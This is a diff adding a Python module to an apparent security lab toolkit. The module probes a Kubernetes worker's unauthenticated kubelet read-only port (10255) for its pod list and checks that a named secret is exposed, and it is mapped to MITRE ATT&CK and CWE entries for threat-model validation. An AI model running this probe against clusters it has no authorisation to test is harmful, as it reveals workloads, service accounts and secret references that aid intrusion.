@@ -1,0 +1,81 @@
+"""Read what runs on a worker from the kubelet's read-only port: it asks nobody, in plaintext.
+
+The answer names every pod, its image, its addresses, its service account and the secrets that
+it uses; not their values, unless somebody wrote them into the pod itself.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.techniques._ask import ask
+from labkit.techniques._base import NETWORK, POD, USER_ON_WORKER, Prediction, Technique
+from labkit.techniques._kubelet import as_apiserver
+from labkit.techniques._reach import Answer
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+PATH, PORT = "/pods", 10255
+CHANNEL = "anyone@network -> kubelet@worker1:*"
+WANTED = "db-credentials"
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether the port is open."""
+    found = view.channels(CHANNEL)
+    if found:
+        return Prediction(True, (str(found[0].client_authentication),))
+    return Prediction(False, tuple(str(c.encryption) for c in view.closed(CHANNEL)[:1]))
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask for the pods."""
+    found = View(lab.environment).channels(CHANNEL)
+    port = found[0].port if found else PORT
+
+    def control() -> str:
+        _pods(as_apiserver(lab, "GET", PATH))
+        return "with the apiserver's certificate, the same kubelet lists its pods on its own port"
+
+    url = f"http://worker1:{port}{PATH}"
+    return ask(lab, TECHNIQUE.name, foothold, url, proof=_pods, control=control)
+
+
+def _pods(answer: Answer) -> str:
+    """Say that the answer names the pod and the secret that it uses."""
+    try:
+        items = json.loads(answer.body)["items"]
+    except (ValueError, KeyError) as error:
+        raise ProbeError("what answered is not the kubelet") from error
+    for pod in items:
+        about = pod["metadata"]
+        if (about["namespace"], about["name"]) == ("shop", "web") and WANTED in json.dumps(pod):
+            return f"read: what pod shop/web is made of, and that it uses the secret {WANTED}"
+    raise ProbeError("the kubelet answered, but does not know the pod shop/web")
+
+
+TECHNIQUE = Technique(
+    name="kubelet-read-only",
+    title="Read from the kubelet's read-only port what runs on a worker",
+    footholds=(NETWORK, USER_ON_WORKER, POD),
+    grants=(),
+    about=CHANNEL,
+    properties=("encryption", "client_authentication"),
+    attack=("T1613",),
+    stride=("information disclosure",),
+    cwe=("CWE-306", "CWE-319"),
+    sources=(
+        "CIS Kubernetes Benchmark 4.2.4",
+        "https://kubernetes.io/docs/reference/networking/ports-and-protocols/",
+        "https://attack.mitre.org/techniques/T1613/",
+    ),
+    predict=predict,
+    execute=execute,
+)
